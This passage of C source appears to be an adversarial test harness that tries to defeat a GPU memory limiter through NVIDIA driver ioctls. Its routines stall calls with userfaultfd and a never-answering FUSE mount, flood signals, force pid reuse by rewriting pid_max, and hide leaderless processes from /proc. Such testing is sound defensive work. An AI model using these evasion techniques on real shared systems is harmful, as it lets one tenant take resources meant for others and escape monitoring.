        call = (struct rm_alloc){.root = root.handle, .parent = device.handle, .class = 0x40, .params = params_at, .params_size = sizeof params, .status = 0xdead};
        if (ioctl_as(pid, &at, fd, RM(0x2b, struct rm_alloc), &call, sizeof call, place) < 0) break;
        if (!call.status) got += 16 * MIB;
    } while (!call.status);
    /* A process that is traced is not seen to end before its tracer has looked. */
    ptrace(PTRACE_SETREGS, pid, NULL, &at);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    say("got", got);
    say("status", call.status);
    for (;;) pause();
}
#endif

/* --- standing still --------------------------------------------------------------------------------------------------------- */

/* A call of `block`'s. */
struct blocked {
    int control;
    char *page;
};
static atomic_ulong answered;
static void *call_on_page(void *argument) {
    struct blocked *call = argument;
    ioctl(call->control, RM(0x2b, struct rm_alloc), call->page);
    atomic_fetch_add(&answered, 1);
    return NULL;
}
/* Whether it can still make calls itself. */
static void say_status(struct session *s) {
    uint64_t size = 2 * MIB;
    uint32_t handle = 0;
    say("status", memory(s, &size, &handle));
}
/* block [COUNT]: arguments on pages that never come, of threads: the memory of a child would not be watched. It goes on once all of these calls
 * have been answered, or wait for their pages: whoever looks into the memory of others may be told at once that there is nothing. */
static void attack_block(char **a) {
    struct session s = begin();
    uint64_t count = number(a, 0, 4), waiting = 0;
    int fault = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
    if (fault < 0) {
        say("userfaultfd", -errno);
        return;
    }
    struct uffdio_api api = {.api = UFFD_API};
    if (ioctl(fault, UFFDIO_API, &api)) die("UFFDIO_API");
    struct blocked *calls = calloc(count, sizeof *calls);
    for (uint64_t i = 0; i < count; i++) {
        char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        struct uffdio_register range = {.range = {(uintptr_t)page, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
        if (ioctl(fault, UFFDIO_REGISTER, &range)) die("UFFDIO_REGISTER");
        calls[i] = (struct blocked){s.control, page};
        pthread_t thread;
        if (pthread_create(&thread, NULL, call_on_page, &calls[i])) die("pthread_create");
    }
    while (atomic_load(&answered) + waiting < count) {
        struct uffd_msg message;
        if (read(fault, &message, sizeof message) == sizeof message) waiting += message.event == UFFD_EVENT_PAGEFAULT;
        else usleep(1000);
    }
    say("blocking", count);
    say_status(&s);
    for (;;) pause();
}
/* Reads that `never_read` has been asked for. */
static atomic_ulong reads;
/* Answers what it takes to open a file of one page, and never what is asked for its contents. */
static void *never_read(void *argument) {
    int fuse = *(int *)argument;
    static char request[1 << 17];
    for (;;) {
        ssize_t length = read(fuse, request, sizeof request);
        if (length < (ssize_t)sizeof(struct fuse_in_header)) return NULL;
        struct fuse_in_header *in = (void *)request;
        struct {
            struct fuse_out_header head;
            union {
                struct fuse_init_out init;
                struct fuse_entry_out entry;
                struct fuse_attr_out attr;
                struct fuse_open_out open;
            } body;
        } out = {0};
        size_t size = 0;
        struct fuse_attr attr = {.ino = in->nodeid, .size = 4096, .mode = in->nodeid == 1 ? S_IFDIR | 0755 : S_IFREG | 0666, .nlink = 1};
        switch (in->opcode) {
        case FUSE_INIT:
            out.body.init = (struct fuse_init_out){.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096};
            size = sizeof out.body.init;
            break;
        case FUSE_LOOKUP:
            /* The file's name is its number. */
            attr.ino = 2 + strtoul((char *)(in + 1), NULL, 10), attr.mode = S_IFREG | 0666;
            out.body.entry = (struct fuse_entry_out){.nodeid = attr.ino, .entry_valid = 3600, .attr_valid = 3600, .attr = attr};
            size = sizeof out.body.entry;
            break;
        case FUSE_GETATTR:
            out.body.attr = (struct fuse_attr_out){.attr_valid = 3600, .attr = attr};
            size = sizeof out.body.attr;
            break;
        case FUSE_OPEN:
            size = sizeof out.body.open;
            break;
        case FUSE_READ:
            atomic_fetch_add(&reads, 1);
            continue;
        case FUSE_FORGET:
        case FUSE_INTERRUPT:
            continue;
        default:
            out.head.error = -ENOSYS;
        }
        out.head.unique = in->unique;
        out.head.len = sizeof out.head + size;
        if (write(fuse, &out, out.head.len) < 0) return NULL;
    }
}
static void write_text(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, text, strlen(text)) < 0) die(path);
    close(fd);
}
/* fuse [COUNT] [SEEN]: arguments in files of a file system that never answers. It goes on, and makes a call itself, once SEEN of them are being
 * read. */
static void attack_fuse(char **a) {
    static int fuse;
    struct session s = begin();
    uint64_t count = number(a, 0, 8), seen = number(a, 1, 1);
    if (mkdir("/tmp", 0777) && errno != EEXIST) die("/tmp");
    if (mkdir("/tmp/fuse", 0777) && errno != EEXIST) die("/tmp/fuse");
    /* The device of a file system belongs to the user namespace in which it is opened. */
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) die("unshare");
    write_text("/proc/self/uid_map", "0 0 1");
    write_text("/proc/self/setgroups", "deny");
    write_text("/proc/self/gid_map", "0 0 1");
    fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);
    if (fuse < 0) die("/dev/fuse");
    char options[80];
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse);
    if (mount("fuse", "/tmp/fuse", "fuse", MS_NOSUID | MS_NODEV, options)) die("mount");
    pthread_t thread;
    pthread_create(&thread, NULL, never_read, &fuse);
    for (uint64_t i = 0; i < count; i++) {
        char name[32];
        snprintf(name, sizeof name, "/tmp/fuse/%lu", (unsigned long)i);
        int file = xopen(name);
        char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
        if (page == MAP_FAILED) die("mmap");
        close(file);
        if (fork() == 0) {
            /* The last process that has the device ends it all. */
            close(fuse);
            ioctl(s.control, RM(0x2b, struct rm_alloc), page);
            _exit(0);
        }
    }
    while (atomic_load(&reads) < seen) usleep(1000);
    say("blocking", seen);
    say_status(&s);
    for (;;) pause();
}
/* stopped SECONDS: a process is stopped and continued, again and again, in the middle of its calls. */
static void attack_stopped(char **a) {
    double end = now() + number(a, 0, 3);
    pid_t child = fork();
    if (child == 0) {
        struct session s = begin();
        flood(&s);
    }
    long stops = 0;
    while (now() < end) {
        kill(child, SIGSTOP);
        usleep(200 + stops % 7 * 300);
        kill(child, SIGCONT);
        usleep(500);
        stops++;
    }
    kill(child, SIGSTOP);
    say("stops", stops);
    for (;;) pause();
}
static atomic_long signals;
static void count_signal(int number) {
    (void)number;
    atomic_fetch_add(&signals, 1);
}
/* signals SECONDS: as a Go program that preempts its threads, many times a millisecond. */
static void attack_signals(char **a) {
    struct session s = begin();
    struct sigaction action = {.sa_handler = count_signal, .sa_flags = SA_RESTART};
    sigaction(SIGALRM, &action, NULL);
    struct itimerval timer = {{0, 150}, {0, 150}};
    setitimer(ITIMER_REAL, &timer, NULL);
    double end = now() + number(a, 0, 3);
    long done = 0, failed = 0;
    while (now() < end) {
        uint64_t size = 2 * MIB;
        uint32_t handle = 0;
        long status = memory(&s, &size, &handle);
        if (status == -EINTR) continue;
        if (status == 0) status = rm_free(s.control, s.client, handle);
        if (status == 0) done++;
        else failed++;
    }
    setitimer(ITIMER_REAL, &(struct itimerval){0}, NULL);
    say("signals", atomic_load(&signals));
    say("done", done);
    say("failed", failed);
    uint64_t size = 2 * MIB;
    uint32_t handle = 0;
    say("status", memory(&s, &size, &handle));
    say("holds", size);
    for (;;) pause();
}
/* recycled COUNT: processes that take memory and die; pids are few, so that they come again. */
static void attack_recycled(char **a) {
    uint64_t count = number(a, 0, 600);
    int fd = open("/proc/sys/kernel/pid_max", O_WRONLY);
    say("pid_max", fd >= 0 && write(fd, "310", 3) == 3 ? 0 : -errno);
    long again = 0;
    char seen[100000] = {0};
    for (uint64_t i = 0; i < count; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            struct session s = begin();
            uint64_t size = 64 * MIB;
            uint32_t handle = 0;
            memory(&s, &size, &handle);
            _exit(0);
        }
        if (pid > 0 && pid < 100000) again += seen[pid]++ > 0;
        while (waitpid(-1, NULL, 0) > 0) {}
    }
    say("again", again);
    attack_fill((char *[]){"64", NULL});
}
/* managed MIB: mmap of /dev/nvidia-uvm, offset the address, as libcuda does for cudaMallocManaged. */
static void attack_managed(char **a) {
    struct session s = begin();
    int uvm = xopen("/dev/nvidia-uvm");
    uint64_t initialize[2] = {0};
    say("initialize", ioctl(uvm, 0x30000001, initialize) < 0 ? -errno : (long)(uint32_t)initialize[1]);
    uint64_t piece = number(a, 0, 256) * MIB, got = 0, address = 0x200000000000ull;
    for (int i = 0; i < 1000; i++, address += piece + 2 * MIB) {
        void *at = mmap((void *)address, piece, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, uvm, address);
        if (at == MAP_FAILED) break;
        got += piece;
    }
    say("errno", errno);
    say("got", got);
    long last;
    say("and", fill(&s, 64 * MIB, &last));
    say("status", last);
    for (;;) pause();
}
/* leaderless MIB PROCESSES: managed memory of processes whose first thread has ended: of those, /proc/PID shows none, and kcmp says that one has
 * what the other has. */
struct leaderless { volatile uint64_t got; volatile int done; uint64_t piece; };
static void *without_the_first(void *mine) {
    struct leaderless *own = mine;
    int uvm = xopen("/dev/nvidia-uvm");
    uint64_t initialize[2] = {0}, address = 0x200000000000ull;
    ioctl(uvm, 0x30000001, initialize);
    for (int i = 0; i < 40; i++) {
        void *at = mmap((void *)address, own->piece, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, uvm, address);
        if (at == MAP_FAILED) { usleep(50000); continue; }
        own->got += own->piece;
        address += own->piece + 2 * MIB;
    }
    own->done = 1;
    for (;;) pause();
}
static void attack_leaderless(char **a) {
    int processes = (int)number(a, 1, 2), flags = MAP_SHARED | MAP_ANONYMOUS;
    struct leaderless *all = mmap(NULL, processes * sizeof *all, PROT_READ | PROT_WRITE, flags, -1, 0);
    for (int i = 0; i < processes; i++) {
        all[i].piece = number(a, 0, 64) * MIB;
        if (fork() == 0) {
            pthread_t thread;
            pthread_create(&thread, NULL, without_the_first, &all[i]);
            syscall(SYS_exit, 0);
        }
    }
    uint64_t got = 0;
    for (int i = 0; i < processes; got += all[i++].got)
        while (!all[i].done) usleep(10000);
    say("got", got);
    struct session s = begin();
    long last;
    say("and", fill(&s, 64 * MIB, &last));
    for (;;) pause();
}
/* grow MIB: managed memory that becomes larger without an mmap. The real driver's mappings cannot; simulated nodes are plain files. */
static void attack_grow(char **a) {
    struct session s = begin();
    (void)s;
    int uvm = xopen("/dev/nvidia-uvm");
    uint64_t initialize[2] = {0}, address = 0x200000000000ull;
    say("initialize", ioctl(uvm, 0x30000001, initialize) < 0 ? -errno : (long)(uint32_t)initialize[1]);
    void *at = mmap((void *)address, 16 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, uvm, address);
    say("mapped", at == MAP_FAILED ? -errno : 0);
    say("grown", mremap(at, 16 * MIB, number(a, 0, 64) * MIB, 0) == MAP_FAILED ? -errno : 0);
    for (;;) pause();
}

#include "cgroups.h"
#include "hostile_memory.c"

static const struct {
    const char *name;
    void (*run)(char **);
} attacks[] = {
    {"fill", attack_fill}, {"hold", attack_hold}, {"step", attack_step}, {"talk", attack_talk}, {"total", attack_total},
    {"type-byte", attack_type_byte}, {"high-word", attack_high_word}, {"xfer", attack_xfer},
#if defined(__x86_64__)
    {"int80", attack_int80}, {"x32", attack_x32}, {"ptrace", attack_ptrace},
    {"ptrace-neighbour", attack_ptrace_neighbour},
#endif
    {"race", attack_race}, {"race-class", attack_race_class}, {"close", attack_close}, {"together", attack_together},
    {"forks", attack_forks}, {"tiny", attack_tiny}, {"objects", attack_objects}, {"handles", attack_handles},
    {"garbage", attack_garbage}, {"flood", attack_flood}, {"lend", attack_lend}, {"borrow", attack_borrow}, {"keep", attack_keep},
    {"own-table", attack_own_table}, {"mknod", attack_mknod}, {"user-namespace", attack_user_namespace},
    {"listener", attack_listener}, {"block", attack_block}, {"fuse", attack_fuse}, {"stopped", attack_stopped}, {"signals", attack_signals},
    {"recycled", attack_recycled}, {"pin", attack_pin}, {"pin-mapped", attack_pin_mapped},
    {"race-pin", attack_race_pin}, {"managed", attack_managed}, {"grow", attack_grow},
    {"leaderless", attack_leaderless}, {"deep", attack_deep}, {"unified", attack_unified}, {"ice", attack_ice},
    {"sharer", attack_sharer}, {"hop", attack_hop}, {"leap", attack_leap}, {"idle", attack_idle}, {"slow", attack_slow},
};

int main(int count, char **arguments) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    for (size_t i = 0; count > 1 && i < sizeof attacks / sizeof *attacks; i++) {
        if (strcmp(attacks[i].name, arguments[1]) == 0) {
            attacks[i].run(arguments + 2);
            return 0;
        }
    }
    fprintf(stderr, "usage: hostile ATTACK [ARGUMENT...]\n");
    return 64;
}
